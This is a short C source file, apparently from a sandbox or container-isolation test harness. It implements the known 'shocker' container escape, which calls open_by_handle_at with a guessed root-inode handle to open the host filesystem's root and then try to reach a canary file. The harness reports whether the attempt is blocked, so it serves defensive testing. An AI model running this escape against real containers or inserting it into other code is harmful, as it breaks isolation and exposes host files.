/* The "shocker" attack: open_by_handle_at(2) with a guessed file handle of the host
 * filesystem's root directory (ext4/xfs root inode 2), then walk to the canary. */
#include "attack.h"

struct ext4_handle {
    unsigned int handle_bytes;
    int handle_type;
    unsigned int ino, gen;
};

int main(void)
{
    const char *target = canary_path();
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0) {
        blocked("open /: %s", strerror(errno));
        return 0;
    }
    struct ext4_handle handle = {8, 1, 2, 0};     /* FILEID_INO32_GEN, inode 2 */
    int root = open_by_handle_at(mount_fd, (struct file_handle *)&handle, O_RDONLY | O_DIRECTORY);
    if (root < 0) {
        blocked("open_by_handle_at(root inode 2): %s", strerror(errno));
        return 0;
    }
    say("info", "open_by_handle_at opened a directory by a guessed handle (inode 2)");
    try_canary_at(root, target + 1, "open_by_handle_at");
    return 0;
}
